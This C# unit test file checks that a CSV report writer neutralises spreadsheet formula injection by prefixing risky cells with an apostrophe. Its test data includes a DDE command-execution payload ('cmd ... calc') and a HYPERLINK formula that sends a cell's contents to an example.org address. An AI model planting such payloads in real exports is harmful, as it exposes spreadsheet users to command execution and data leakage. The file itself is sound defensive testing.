using System.Globalization;
using SisSync.Core.Reporting;
using SisSync.Tests.TestKit;
using Xunit;

namespace SisSync.Tests.Reporting;

/// <summary>How one cell becomes bytes.</summary>
public sealed class CsvRowsTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"http://example.org?\"&A1,\"here\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("\r\n=1+1")]
    [InlineData(" =1+1")]
    [InlineData("\u00a0=1+1")]
    [InlineData("\uff1d1+1")] // full-width signs count as formulas in some locales
    [InlineData("\uff0b1")]
    [InlineData("\uff0d1")]
    [InlineData("\uff20SUM(1)")]
    public async Task Row_WouldBeAFormula_IsTextWithNothingLost(string value)
    {
        var cell = await CellAsync(value);

        Assert.Equal("'" + value, cell);
    }

    [Theory]
    [InlineData("+1 555 010 0100", "'+1 555 010 0100")] // the apostrophe is all that is added
    [InlineData("(555) 010-0100", "(555) 010-0100")]
    [InlineData("O'Neil", "O'Neil")]
    [InlineData("Anne-Marie", "Anne-Marie")]
    [InlineData("ana+school@example.org", "ana+school@example.org")]
    [InlineData("\"Dee\", Ana", "\"Dee\", Ana")]
    [InlineData("\"=1+1\"", "\"=1+1\"")]
    [InlineData("Ana\r\nLee", "Ana\r\nLee")]
    [InlineData("Ana\nLee", "Ana\nLee")]
    [InlineData("Zoë Ñandú 李 👩‍🏫", "Zoë Ñandú 李 👩‍🏫")]
    [InlineData("Ana; =1+1; Bo", "Ana; '=1+1; Bo")] // where lists are parted by semicolons, a cell begins there
    [InlineData("", "")]
    [InlineData(" ", " ")]
    public async Task Row_Text_ReadsAsWritten(string value, string expected)
    {
        Assert.Equal(expected, await CellAsync(value));
    }

    [Fact]
    public async Task Row_CultureOfTheMachine_ChangesNothing()
    {
        var before = CultureInfo.CurrentCulture;
        try
        {
            CultureInfo.CurrentCulture = new CultureInfo("de-DE"); // lists there are parted by semicolons
            Assert.Equal("a;b", await CellAsync("a;b"));
        }
        finally
        {
            CultureInfo.CurrentCulture = before;
        }
    }

    [Fact]
    public async Task Dispose_OutputStaysOpen()
    {
        using var output = new MemoryStream();
        await using (var rows = new CsvRows(output))
        {
            await rows.HeaderAsync(["A"]);
        }

        Assert.True(output.CanWrite);
    }

    private static async Task<string> CellAsync(string value)
    {
        using var output = new MemoryStream();
        await using (var rows = new CsvRows(output))
        {
            await rows.HeaderAsync(["A", "B", "C"]);
            await rows.RowAsync(
                new Dictionary<string, string> { ["B"] = value, ["not a column"] = "x" },
                TestContext.Current.CancellationToken
            );
        }
        var records = CsvText.Read(output.ToArray());
        Assert.Equal(["A", "B", "C"], records[0]);
        Assert.Equal(2, records.Count);
        Assert.Equal(("", ""), (records[1][0], records[1][2]));
        return records[1][1];
    }
}
